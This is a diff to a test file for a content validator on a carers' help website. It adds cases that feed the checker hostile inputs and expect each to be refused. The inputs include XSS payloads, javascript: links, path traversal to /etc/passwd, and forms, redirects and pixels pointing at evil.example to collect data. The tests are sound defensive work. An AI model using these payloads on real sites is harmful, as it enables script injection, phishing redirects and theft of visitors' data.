@@ -216,6 +216,7 @@ def test_every_problem_is_listed_not_just_the_first(project):
     edit(project, EN, "https://www.nhs.uk/", "http://www.nhs.uk/")
     edit(project, EN, "[hospital-discharge]", "[hospital]")
     edit(project, EN, "- In an emergency call 999.", "- In an emergency call 999.\n\n![](x.png)")
+    (project.docs / "en" / "transitions" / "x.png").write_bytes(b"")  # the picture exists; only its alt text is missing
     assert len([p for p in problems(project) if p.startswith(EN)]) == 3
 
 
@@ -283,13 +284,41 @@ REPORT_FRONT_MATTER = [
     ("F20b", EN, "description: What to do when the person you care for is coming out of hospital.", 'description: ""', f"{EN}:3: The field 'description' is empty."),
     ("F21", EN, "title: Leaving hospital", "title: Leaving\ufeff hospital", f"{EN}:2: This line has an invisible character (U+FEFF)."),
     ("F26", EN, "sources: [seed-one]", "sources: []", f"{EN}:10: 'sources: []' lists no source"),
+    # found in the real content: a source cited twice gave the page two elements with one id (Nu checker)
+    ("F26b", EN, "sources: [seed-one]", "sources: [seed-one, seed-one]", f"{EN}:10: 'seed-one' is listed more than once in 'sources'. Keep it once."),
     ("F25", EN, "sources: [seed-one]", "sources: [seed-one]\ntemplate: ../../../../../etc/passwd", f"{EN}:11: 'template: ../../../../../etc/passwd' is not allowed here."),
     ("F30", EN, "sources: [seed-one]", "sources: [seed-one]\ntemplate: search.html", f"{EN}:11: 'template: search.html' is not allowed here."),
     ("F28c", EN, "title: Leaving hospital", 'title: "Leaving \\udbea\\udfaa"', f"{EN}:2: The front matter"),
+    ("F13", EN, "---\ntitle: Leaving hospital", "\ufeff---\ntitle: Leaving hospital", f"{EN}:1: This file starts with a byte-order mark"),
+    ("F22", EN, "sources: [seed-one]\n---\n", "sources: [seed-one]\n\n", f"{EN}:1: The front matter has no closing '---' line"),
+    ("F01", EN, "title: Leaving hospital", "title: 123", f"{EN}:2: 'title' must be text."),
+    ("F02", EN, "title: Leaving hospital", "title: [a, b]", f"{EN}:2: 'title' must be text."),
+    ("F03", EN, "sources: [seed-one]", "sources: seed-one", f"{EN}:10: 'sources' must be a list"),
+    ("F04", EN, "nations: [england, wales]", "nations: england", f"{EN}:7: 'nations' must be a list"),
+    ("F05", EN, "nations: [england, wales]", "nations: [England, Wales]", f"{EN}:7: 'England' is not a known nation."),
+    ("F07", EN, "next_review: 2027-05-22", "next_review: next month", f"{EN}:9: 'next_review: next month' is not a date."),
+    ("F08", EN, "next_review: 2027-05-22", "next_review: 2026-01-01", f"{EN}:9: The next review date is not after the last review date."),
+    ("F11", EN, "title: Leaving hospital\n", "a0: &a0 [x, x]\na1: &a1 [*a0, *a0]\ntitle: *a1\n", f"{EN}:2: YAML anchors and aliases (& and *) are not allowed"),
+    ("F12", EN, "audience: [carers]", "audience:\n\t- carers", f"{EN}:7: The front matter is not valid YAML"),
+    ("F15", EN, "---\ntitle: Leaving hospital", "title: Leaving hospital", f"{EN}:1: The page has no front matter."),
+    ("F16", EN, None, "", f"{EN}:1: The page has no front matter."),
+    ("F28", EN, "title: Leaving hospital", 'title: "Leaving \\ud83d\\udc4b"', f"{EN}:2: The front matter is not valid YAML (found invalid Unicode character escape code)"),
     ("F24", CY, "  status: draft", "  status: reviewed\n  reviewed_by: A Person\n  reviewed_on: 2099-01-01", f"{CY}:11: The translation's reviewed_on date is in the future."),
 ]
 
+# Markup in front-matter text (shown as text by the build, tests/test_escaping.py; and refused here, as in data files)
+REPORT_MARKUP_IN_FIELDS = [
+    ("M01", EN, "title: Leaving hospital", "title: 'Money \"worries\" & <b>you</b> {{ config.site_url }}'", f"{EN}:2: 'title' has HTML in it"),
+    ("M02", EN, "title: Leaving hospital", "title: 'Advocacy</title><script>alert(document.domain)</script><title>'", f"{EN}:2: 'title' has HTML in it"),
+    ("M02b", EN, "title: Leaving hospital", "title: 'Advocacy<script>alert(document.domain)</script>'", f"{EN}:2: 'title' has HTML in it"),
+    ("M03", EN, "description: What to do when the person you care for is coming out of hospital.",
+     "description: 'Help for carers.\"><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"><x y=\"'", f"{EN}:3: 'description' has HTML in it"),
+    ("M04", EN, "sources: [seed-one]\n", "sources: [seed-one]\nplace: '<script>alert(document.domain)</script>'\n", f"{EN}:11: 'place' has HTML in it"),
+    ("M05", EN, "title: Leaving hospital", "title: 'Admiral Nurses <img src=x onerror=alert(1)>'", f"{EN}:2: 'title' has HTML in it"),
+]
+
 REPORT_BODY = [
+    ("B05", EN, "## What you can do {#what-you-can-do}", "## What you can do {#in-short}", f"{EN}:20: The id #in-short is already used by the heading on line 15."),
     ("B03", EN, "## What you can do {#what-you-can-do}", "## What you can do {#what-you-\u200bcan-do}", f"{EN}:20: This line has an invisible character (U+200B)."),
     ("B04", *_after_list("Go to [\u202egro.sreraC\u202c](https://evil.example/)."), f"{EN}:20: This line has an invisible direction control (U+202E)"),
     ("B06", *_after_list("<!-- Hidden from readers: call 0800 000 000 for a fee -->"), f"{EN}:20: An HTML comment (<!-- ... -->) hides text"),
@@ -303,7 +332,23 @@ REPORT_BODY = [
     ("C0", *_after_list("Call us\x0e today."), f"{EN}:20: This line has a control character (U+000E)"),
 ]
 
+REPORT_VIDEOS = [
+    ("V01", *_after_list('/// video | A film\n    id: abc" onload="x\n    duration: 2:48\n\nSummary.\n///'), f"{EN}:20: Video block \"A film\": the YouTube id 'abc\" onload=\"x' is not valid."),
+    ("V02", *_after_list('/// video | "><svg/onload=alert(document.domain)>\n    id: NPENe0gKEOU\n    duration: 2:48\n\nSummary.\n///'), f"{EN}:20: The HTML attribute onload= runs a script"),
+    ("V03", *_after_list("/// video | A film\n\tid: NPENe0gKEOU\n\tduration: 2:48\n\nSummary.\n///"), f"{EN}:20: Video block \"A film\": the YouTube id '' is not valid."),
+    ("V04", *_after_list("/// video | A film\n    id: NPENe0gKEOU\n    duration: 2:48\n    autoplay: 1\n\nSummary.\n///"), f"{EN}:20: Video block \"A film\": unknown option 'autoplay'."),
+    ("V05", *_after_list("/// video | A film\n    id: NPENe0gKEOU\n    duration: 2:48\n\nSummary."), f"{EN}:20: This video block has no closing line"),
+]
+
 REPORT_LINKS = [
+    ("L03", *_after_list("[Click](vbscript:msgbox(1))"), f"{EN}:20: A vbscript: address runs a script"),
+    ("L06", *_after_list("[Secret](../../../etc/passwd)"), f"{EN}:20: The link ../../../etc/passwd does not point to a page file."),
+    ("L06b", *_after_list("[Secret](../../../etc/passwd.md)"), f"{EN}:20: The link ../../../etc/passwd.md points outside the site's pages."),
+    ("L07", CY, "(../support/carers-assessment.md#what-you-can-do)", "(../../cy/support/carers-assessment.md)", f"{CY}:20: The link ../../cy/support/carers-assessment.md goes into the cy pages."),
+    ("L09", *_after_list("[Click](javascript:alert(document.domain) 'More help')"), f"{EN}:20: A javascript: address runs a script"),
+    ("L12", *_after_list("[Carers UK](http://www.carersuk.org/)"), f"{EN}:20: The link http://www.carersuk.org/ uses http://. Use https://"),
+    ("L14", *_after_list("![Secret](../../../../etc/passwd)"), f"{EN}:20: The image ../../../../etc/passwd points outside docs/."),
+    ("L15", *_after_list("[Click](<javascript:alert(1)>)"), f"{EN}:20: A javascript: address runs a script"),
     ("L01", *_after_list("[Click](javascript:alert(1))"), f"{EN}:20: A javascript: address runs a script"),
     ("L02", *_after_list("[Click](data:text/html;base64,PHNjcmlwdD4=)"), f"{EN}:20: The link data:text/html;base64,PHNjcmlwdD4= is not a page of this site"),
     ("L04", *_after_list("[Click](//evil.example/x)"), f"{EN}:20: The link //evil.example/x is not a page of this site"),
@@ -318,6 +363,19 @@ REPORT_LINKS = [
 ]
 
 REPORT_RAW_HTML = [
+    ("H01", *_after_list('<img src="x" alt="x" onerror="alert(1)">'), f"{EN}:20: The HTML attribute onerror= runs a script"),
+    ("H02", *_after_list('<svg onload="alert(1)"></svg>'), f"{EN}:20: The HTML attribute onload= runs a script"),
+    ("H05", *_after_list('<form action="https://evil.example/collect"><input name="nhs"></form>'), f"{EN}:20: Raw HTML <form> is not allowed in a page."),
+    ("H06", *_after_list('<meta http-equiv="refresh" content="0;url=https://evil.example/">'), f"{EN}:20: Raw HTML <meta> is not allowed in a page."),
+    ("H07", *_after_list('<base href="https://evil.example/">'), f"{EN}:20: Raw HTML <base> is not allowed in a page."),
+    ("H08", *_after_list('<object data="x.swf"></object>'), f"{EN}:20: Raw HTML <object> is not allowed in a page."),
+    ("H08b", *_after_list('<embed src="x.swf">'), f"{EN}:20: Raw HTML <embed> is not allowed in a page."),
+    ("H09", *_after_list('<link rel="stylesheet" href="https://evil.example/x.css">'), f"{EN}:20: Raw HTML <link> is not allowed in a page."),
+    ("H12", *_after_list("<script>alert(1)</script>"), f"{EN}:20: Raw HTML <script> is not allowed in a page."),
+    ("H13", *_after_list('<img src="https://evil.example/pixel.gif" alt="photo">'), f"{EN}:20: Raw HTML <img> is not allowed in a page."),
+    ("H14", *_after_list("<link rel=preconnect href=https://evil.example>"), f"{EN}:20: Raw HTML <link> is not allowed in a page."),
+    ("H16", *_after_list('*[NHS]: "><svg/onload=alert(document.domain)>'), f"{EN}:20: The HTML attribute onload= runs a script"),
+    ("H17", *_after_list('<iframe src="https://evil.example/"></iframe>'), f"{EN}:20: Raw HTML <iframe> is not allowed in a page."),
     ("H03", *_after_list("<svg/onload=alert(document.domain)>"), f"{EN}:20: The HTML attribute onload= runs a script"),
     ("H04", *_after_list('<a href="javascript:alert(document.domain)">Help</a>'), f"{EN}:20: Raw HTML <a> is not allowed in a page. Write a link as [words](page.md)."),
     ("H05b", *_after_list('<form action="//evil.example/collect"><input name="nhs"></form>'), f"{EN}:20: Raw HTML <form> is not allowed in a page."),
@@ -336,6 +394,8 @@ REPORT_RAW_HTML = [
 ]
 
 REPORT_DATA = [
+    ("D04", "scripts/i18n/cy.yml", None, "draft_translation: '<script>alert(document.domain)</script>'\n", "scripts/i18n/cy.yml:1: This text has HTML in it"),
+    ("D06", "content_sources/terms/en.yml", "definition: A break from caring.", 'definition: "A break from caring.\\n\\n<script>alert(document.domain)</script>"', "content_sources/terms/en.yml:3: This text has HTML in it"),
     ("D01", "content_sources/terms/en.yml", "A break from caring.", "A break from caring. <script>alert(document.domain)</script>", "content_sources/terms/en.yml:3: This text has HTML in it"),
     ("D02", "content_sources/sources.yml", "kind: report,", "kind: report, url: 'javascript:alert(document.domain)',", "content_sources/sources.yml:1: A javascript: address is not allowed."),
     ("D02b", "content_sources/sources.yml", "kind: report,", "kind: report, url: 'http://www.carersuk.org/',", "content_sources/sources.yml:1: The source address 'http://www.carersuk.org/' must start with https://"),
@@ -344,11 +404,14 @@ REPORT_DATA = [
 ]
 
 REPORT_FILES = [
+    ("S03", "docs/en/support/carers-assessment/index.md", None, ASSESSMENT, "docs/en/support/carers-assessment.md:1: This page has the same web address as docs/en/support/carers-assessment/index.md."),
+    ("S05", "docs/en/support/Money Worries.md", None, ASSESSMENT, "docs/en/support/Money Worries.md:1: The name 'Money Worries' is not lowercase words joined by hyphens. Rename the file, e.g. money-worries.md"),
+    ("S06", EN, None, GUIDE.replace("hospital.", "hospital, café.").encode("latin-1"), f"{EN}:3: This file is not saved as UTF-8."),
     ("S01", "docs/en/help.html", None, "<!doctype html><title>Help</title><script>alert(document.domain)</script>", "docs/en/help.html:1: Files of this type are not allowed in docs/"),
     ("S07", "docs/en/assets/logo.svg", None, "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "docs/en/assets/logo.svg:1: Files of this type are not allowed in docs/"),
 ]
 
-REPORT_CASES = REPORT_FRONT_MATTER + REPORT_BODY + REPORT_LINKS + REPORT_RAW_HTML + REPORT_DATA + REPORT_FILES
+REPORT_CASES = REPORT_FRONT_MATTER + REPORT_MARKUP_IN_FIELDS + REPORT_BODY + REPORT_VIDEOS + REPORT_LINKS + REPORT_RAW_HTML + REPORT_DATA + REPORT_FILES
 
 
 def run_check(project: Project, capsys) -> tuple[int, list[str]]:
@@ -364,7 +427,7 @@ def test_every_reproduction_in_the_robustness_report_is_refused_with_file_line_a
     target = project.root / file
     if old is None:
         target.parent.mkdir(parents=True, exist_ok=True)
-        target.write_text(new, encoding="utf-8")
+        target.write_bytes(new) if isinstance(new, bytes) else target.write_text(new, encoding="utf-8")
     else:
         edit(project, file, old, new)
     code, lines = run_check(project, capsys)
@@ -374,6 +437,7 @@ def test_every_reproduction_in_the_robustness_report_is_refused_with_file_line_a
 
 
 def test_a_symlink_in_docs_is_refused(project, capsys):
+    """Report S02: a symlink published /etc/passwd and the build's environment."""
     (project.root / "docs" / "en" / "notes.txt").symlink_to("/etc/passwd")
     code, lines = run_check(project, capsys)
     assert code == 1
@@ -403,3 +467,71 @@ def test_a_check_that_fails_unexpectedly_is_one_message_and_the_others_still_run
     found = [str(p) for p in run.run_all(project)]
     assert any("The videos check could not read this file (RuntimeError: unforeseen)" in p for p in found)
     assert any(p.startswith(f"{EN}:22: The link http://www.nhs.uk/ uses http://.") for p in found)
+
+
+@pytest.mark.parametrize(("report_id", "old", "new"), [
+    ("F13", "---\ntitle: Leaving hospital", "\ufeff---\ntitle: Leaving hospital"),
+    ("F22", "sources: [seed-one]\n---\n", "sources: [seed-one]\n\n"),
+    ("F12", "audience: [carers]", "audience:\n\t- carers"),
+], ids=lambda value: value if isinstance(value, str) and len(value) == 3 else None)
+def test_a_broken_english_front_matter_is_one_message_not_one_per_translation(project, report_id, old, new):
+    """The report's cascades: the translations were compared with front matter read as text (spurious 'differ' errors)."""
+    edit(project, EN, old, new)
+    found = [p for p in problems(project) if ": warning: " not in p]
+    assert [p for p in found if p.startswith(EN)], found
+    assert not [p for p in found if p.startswith(CY)], found
+
+
+# Inputs the report found harmless; the check accepts them as the build does (in both languages, so no
+# translation difference is reported either).
+REPORT_ACCEPTED = [
+    ("F14", None, None),  # CRLF line endings
+    ("F29", "title: Leaving hospital", "title: Leaving\thospital"),  # a tab inside a value: MkDocs reads it
+    ("B01", "Ask the council.", "Ask the council.\n\n" + "A short paragraph about caring.\n\n" * 5000),
+    ("B02", "In an emergency call 999.", "In an emergency call 999. " + "x" * 10000),
+    ("B08", "In an emergency call 999.", "In an emergency call 999. {{ config.site_name }} {% include 'main.html' %}"),
+    ("V06", "In an emergency call 999.", "In an emergency call 999.\n\n/// video | A film\n    id: NPENe0gKEOU\n    duration: 2:48\nSummary.\n///"),
+]
+
+
+@pytest.mark.parametrize(("report_id", "old", "new"), REPORT_ACCEPTED, ids=[case[0] for case in REPORT_ACCEPTED])
+def test_harmless_inputs_in_the_report_are_accepted(project, report_id, old, new):
+    for name in (EN, CY) if report_id != "B01" else ("docs/en/support/carers-assessment.md", "docs/cy/support/carers-assessment.md"):
+        path = project.root / name
+        text = path.read_text(encoding="utf-8")
+        if old is None:
+            path.write_bytes(text.replace("\n", "\r\n").encode("utf-8"))
+            continue
+        if old not in text:  # the Welsh page's words differ; its numbers and structure must match
+            old_cy = {"Ask the council.": "Gofynnwch i'r cyngor.", "In an emergency call 999.": "Mewn argyfwng ffoniwch 999.",
+                      "title: Leaving hospital": "title: Gadael yr ysbyty"}[old]
+            text = text.replace(old_cy, new.replace(old, old_cy), 1)
+        else:
+            text = text.replace(old, new, 1)
+        path.write_text(text, encoding="utf-8")
+    found = [p for p in problems(project) if ": warning: " not in p]
+    assert found == [], found
+
+
+@pytest.mark.parametrize("report_id", ["H05", "H06", "H07", "H09", "H13", "H14", "H17"])
+def test_an_address_inside_a_refused_tag_gets_no_advice_to_link_it(project, capsys, report_id):
+    """The report's 'CM' rows: 'Bare web address …"' advised turning the attacker's address into a link."""
+    _, file, old, new, _ = next(case for case in REPORT_RAW_HTML if case[0] == report_id)
+    edit(project, file, old, new)
+    code, lines = run_check(project, capsys)
+    assert code == 1 and not [line for line in lines if "Bare web address" in line], lines
+
+
+def test_s04_a_page_missing_from_the_menu_is_named_by_file(project, capsys):
+    (project.root / "mkdocs.yml").write_text(
+        "site_name: !ENV [SITE_NAME, Test]\nnot_in_nav: |\n  /*/good-practice/*.md\nnav:\n"
+        "  - Leaving: transitions/leaving-hospital.md\n  - Support:\n      - support/carers-assessment.md\n", encoding="utf-8")
+    for path in ("support/hidden-page.md", "good-practice/an-example.md"):
+        target = project.docs / "en" / path
+        target.parent.mkdir(parents=True, exist_ok=True)
+        target.write_text(ASSESSMENT.replace("# A carer's assessment", "# Another page"), encoding="utf-8")
+    code, lines = run_check(project, capsys)
+    assert code == 1
+    assert "docs/en/support/hidden-page.md:1: This page is not in the menu. Add '- support/hidden-page.md' to nav in mkdocs.yml" \
+        in "\n".join(lines)
+    assert not [line for line in lines if "not in the menu" in line and "hidden-page" not in line], lines
